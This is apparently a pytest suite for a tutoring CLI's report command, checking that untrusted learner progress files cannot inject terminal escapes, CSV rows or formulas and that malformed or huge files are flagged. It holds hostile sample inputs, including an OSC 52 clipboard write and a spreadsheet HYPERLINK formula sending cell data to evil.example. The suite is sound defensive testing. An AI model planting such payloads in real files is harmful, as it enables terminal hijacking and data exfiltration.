"""``tui-tutor report`` reads learners' files, which the instructor cannot trust.

Control sequences in a learner name or a lesson id never reach the instructor's terminal
or spreadsheet; numbers that cannot be true are flagged against the pack, never printed
as they are; a file that breaks the reader gets its own row and the others still theirs.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from cli_helpers import run

from tui_tutor import course

PAYLOADS = {
    "osc52": "\x1b]52;c;SGVsbG8=\x07",
    "osc0": "\x1b]0;owned\x07",
    "csi-clear": "\x1b[2J\x1b[H",
    "c1": "\x9b31m\x9d0;x\x9c",
    "rtl": "eve\u202egnp.exe",
    "rows": "mallory\nfake,1,2,3\r\n\tcarol",
    "markup": "[@click=app.screenshot('victim.txt','/tmp')]x[/]",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
}
RAW = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\u202e", "\r")


def tour_file(path: Path, **fields) -> Path:
    """A progress file for the bundled lesson "tour" with ``fields`` set in it."""
    tour = course.load_pack(course.bundled_lessons_dir("en")).get("tour")
    single = next(q for q in tour.quizzes if q.kind == "single")
    lesson = {
        "step": 0,
        "finished": False,
        "score": 1 / len(tour.quizzes),
        "updated": 1.0,
        "answers": {single.id: {"response": single.answer, "correct": True, "attempts": 1}},
        "challenges": [],
        "lab": {},
    }
    data = {"schema": "tui-tutor-progress", "version": 1, "lang": "en", "learner": None}
    data["lessons"] = {"tour": lesson}
    for key, value in fields.items():
        (lesson if key in lesson else data)[key] = value
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def assert_plain(text: str) -> None:
    for c in RAW:
        assert c not in text, repr(c)


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_a_hostile_learner_name_is_shown_as_text(capsys, tmp_path, name):
    payload = PAYLOADS[name]
    hostile = tour_file(tmp_path / "x.json", learner=payload)
    other = tour_file(tmp_path / "bob.json", learner="bob")
    status, out, _ = run(capsys, "report", str(hostile), str(other))
    assert status == 0, out
    assert_plain(out)
    lines = out.splitlines()
    assert len(lines) == 4 and lines[3].startswith("bob ")  # header, rule, two rows
    if name == "rtl":
        assert "eve\\u202egnp.exe" in out
    if name == "markup":
        assert payload[:39] + "…" in out  # plain text (cut to 40): the CLI prints no markup
    status, out, _ = run(capsys, "report", str(hostile), str(other), "--csv")
    assert_plain(out)
    table = list(csv.reader(io.StringIO(out)))
    assert len(table) == 3 and table[2][0] == "bob"
    for cells in table:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    if name == "formula":
        assert table[1][0] == "'" + payload[:39] + "…"


def test_a_hostile_lesson_id_or_error_is_shown_as_text(capsys, tmp_path):
    path = tmp_path / "x.json"
    tour_file(path)
    data = json.loads(path.read_text())
    data["lessons"][PAYLOADS["osc52"]] = data["lessons"]["tour"]
    path.write_text(json.dumps(data))
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"schema": PAYLOADS["osc0"], "version": 1}))
    status, out, _ = run(capsys, "report", str(path), str(bad))
    assert status == 1
    assert_plain(out)
    assert "\\x1b]52;c;SGVsbG8=\\x07" in out and "\\x1b]0;owned\\x07" in out
    status, out, _ = run(capsys, "report", str(path), str(bad), "--csv")
    assert_plain(out)


def huge(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_files_that_broke_the_reader_get_their_own_row(capsys, tmp_path):
    head = '{"schema": "tui-tutor-progress", "version": 1, '
    files = [
        huge(tmp_path / "digits.json", head + '"lessons": {"tour": {"score": ' + "9" * 400 + "}}}"),
        huge(tmp_path / "step.json", head + '"step": ' + "7" * 5000 + "}"),
        tour_file(tmp_path / "bob.json", learner="bob"),
        huge(tmp_path / "deep.json", "[" * 100_000),
    ]
    with (tmp_path / "big.json").open("wb") as f:
        f.truncate(1 << 30)  # sparse 1 GB: refused by its size, never read
    files.append(tmp_path / "big.json")
    status, out, err = run(capsys, "report", *map(str, files))
    assert status == 1 and "Traceback" not in err
    rows = out.split("\n\n")[0].splitlines()[2:]
    assert [r.split()[0] for r in rows] == ["digits", "step", "bob", "deep", "big"]
    assert [r.split()[1] for r in rows] == ["unreadable"] * 2 + ["0"] + ["unreadable"] * 2
    assert "a progress file is at most 2.0 MB" in out and "4300 digits" in out


IMPOSSIBLE = {
    "9990%": {"score": 99.9},
    "-500%": {"score": -5.0},
    "1e308": {"score": 1e308},
    "no such challenges": {"challenges": [f"c-{i}" for i in range(53)]},
    "no such answers": {"answers": {"q-nope": {"response": 1, "correct": True, "attempts": 1}}},
    "past the end": {"step": 40},
}


@pytest.mark.parametrize("name", sorted(IMPOSSIBLE))
def test_impossible_figures_are_flagged_and_left_out(capsys, tmp_path, name):
    path = tour_file(tmp_path / "eve.json", learner="eve", **IMPOSSIBLE[name])
    status, out, _ = run(capsys, "report", str(path))
    assert status == 1
    assert "inf%" not in out and "9990%" not in out.splitlines()[2]
    header, _, row, *notes = out.splitlines()
    assert header.split()[-1] == "check" and row.split()[-1] == "flagged"
    assert row.split()[2] == "0"  # no challenge the lesson has was met
    score = row.split()[3]
    assert score.endswith("%") and 0 <= int(score[:-1]) <= 100
    assert any(line.startswith("eve: ") and "flagged: tour: " in line for line in notes), notes
    status, out, _ = run(capsys, "report", str(path), "--csv")
    (record,) = csv.DictReader(io.StringIO(out))
    assert record["flags"].startswith("tour: ") and 0 <= float(record["tour"]) <= 1


def test_a_lesson_the_pack_does_not_have_is_flagged_not_counted(capsys, tmp_path):
    path = tour_file(tmp_path / "eve.json", learner="eve")
    data = json.loads(path.read_text())
    data["lessons"]["made-up"] = {"step": 0, "finished": True, "score": 1.0}
    path.write_text(json.dumps(data))
    status, out, _ = run(capsys, "report", str(path))
    assert status == 1
    header, _, row, *notes = out.splitlines()
    assert "made-up" not in header and row.split()[:3] == ["eve", "0", "0"]
    assert any("lessons the pack does not have: made-up (not counted)" in n for n in notes)


def test_lesson_columns_follow_the_course(capsys, tmp_path):
    path = tour_file(tmp_path / "ana.json")
    data = json.loads(path.read_text())
    for lid in ("l2-regularization", "basic-recipe", "train-dev-test"):
        data["lessons"][lid] = {"step": 0, "score": 0.0}
    path.write_text(json.dumps(data))
    status, out, _ = run(capsys, "report", str(path))
    assert status == 0, out
    header = out.splitlines()[0].split()
    assert header[3:] == ["tour", "train-dev-test", "basic-recipe", "l2-regularization"]


def test_finished_means_every_question_done(capsys, tmp_path):
    tour = course.load_pack(course.bundled_lessons_dir("en")).get("tour")
    answers = {q.id: {"response": None, "correct": True, "attempts": 1} for q in tour.quizzes}
    path = tour_file(tmp_path / "ana.json", answers=answers, score=1.0)
    status, out, _ = run(capsys, "report", str(path))
    assert status == 0, out
    assert out.splitlines()[2].split()[:2] == ["ana", "1"]  # step 1 of 4, all answered


def test_a_default_progress_file_is_named_after_its_home(capsys, tmp_path):
    folder = tmp_path / "alice" / ".local" / "share" / "tui-tutor"
    folder.mkdir(parents=True)
    path = tour_file(folder / "progress.json")
    status, out, _ = run(capsys, "report", str(path))
    assert status == 0 and out.splitlines()[2].split()[0] == "alice"


def test_report_help_says_what_an_unreadable_file_gives(capsys, tmp_path):
    status, out, _ = run(capsys, "report", "--help")
    assert status == 0
    text = " ".join(out.split())
    assert "still gets a row marked unreadable" in text
    assert "The exit status is 1 when a row is flagged or unreadable" in text
    assert "does not exist or is a folder is an error (exit 2" in text
    assert "every question answered" in text and "last step reached" in text
    # ... and that is what happens.
    bad = tmp_path / "bad.json"
    bad.write_text("{")
    status, out, _ = run(capsys, "report", str(bad))
    assert status == 1 and "unreadable" in out
    status, out, err = run(capsys, "report", str(tmp_path / "none.json"))
    assert status == 2 and out == "" and "no such file" in err
